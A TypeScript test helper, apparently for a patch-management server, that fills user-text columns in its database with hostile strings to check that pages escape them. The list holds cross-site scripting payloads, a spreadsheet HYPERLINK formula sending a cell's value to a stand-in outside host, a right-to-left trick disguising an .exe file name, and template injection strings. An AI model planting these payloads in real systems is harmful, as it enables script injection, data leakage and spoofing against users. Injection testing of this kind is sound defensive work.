import type { App } from '../../server/context.ts'

/** Set in a page by whatever of these texts was run there. */
export const MARK = 'tsukuroiWasRun'

/** What somebody may call a thing to do harm to those who look at it. */
export const HOSTILE_TEXTS = [
  `<script>globalThis.${MARK}=1</script>`,
  `<img src=x onerror="globalThis.${MARK}=2">`,
  `"><svg onload=globalThis.${MARK}=3>`,
  '=HYPERLINK("https://elsewhere.example/?"&A1,"open")',
  '\u202Egpj.exe\u202C \u2067right to left\u2069 \u200B',
  'W'.repeat(4000),
  `{{count}} $t(frame:home) \${globalThis.${MARK}=7} javascript:globalThis.${MARK}=7`,
] as const

/** Texts that come from outside or from people, by table; ids and words of ours are not among them. */
const TEXTS: Readonly<Record<string, readonly string[]>> = {
  advisory: ['title'],
  approval: ['admin_name'],
  baseline: ['name', 'author_name'],
  classification: ['title'],
  computer: ['host_name', 'fqdn', 'display_name', 'os_name', 'os_version', 'os_architecture'],
  computer_group: ['name'],
  downstream_server: ['name'],
  feed_document: ['title'],
  job: ['name', 'requested_by', 'owner_name'],
  job_decision: ['comment', 'decided_by'],
  notice: ['reason'],
  patch: ['name', 'title', 'version'],
  patch_exception: ['reason', 'author_name'],
  patch_text: ['title', 'description'],
  saved_view: ['name'],
  server_group: ['name'],
  site: ['name'],
  software: ['name', 'version', 'vendor'],
  source: ['name'],
  source_computer: ['fqdn'],
  step_output: ['body'],
  target_group: ['name'],
  tenant: ['name'],
  user_account: ['email', 'first_name', 'last_name', 'contract_name', 'phone'],
}

/** How long texts may be, tried one after the other: some columns take less than others. */
const LENGTHS = [4000, 1000, 256, 200, 100, 64] as const
const CHECK_VIOLATION = '23514'

/**
 * Gives everything that has a free text one of the hostile texts, each row another one, as long as its column takes them.
 *
 * @returns how many texts were replaced
 * @throws when a column takes none of them
 */
export async function sully(app: App): Promise<number> {
  let replaced = 0
  for (const [table, columns] of Object.entries(TEXTS))
    for (const [nth, column] of columns.entries()) replaced += await sullyColumn(app, { table, column, nth })
  return replaced
}

async function sullyColumn(app: App, { table, column, nth }: { table: string; column: string; nth: number }): Promise<number> {
  for (const length of LENGTHS) {
    try {
      const { rowCount } = await app.pools.owner.raw<{ rowCount: number }>(
        `with numbered as (select ctid as place, row_number() over (order by ctid) as n from ??)
         update ?? t set ?? = left((?::text[])[1 + (n + ?) % ?], ? - 6) || n from numbered where t.ctid = place`,
        [table, table, column, [...HOSTILE_TEXTS], nth, HOSTILE_TEXTS.length, length],
      )
      return rowCount
    } catch (err) {
      if ((err as { code?: unknown }).code !== CHECK_VIOLATION) throw err
    }
  }
  throw new Error(`${table}.${column} takes no hostile text`)
}
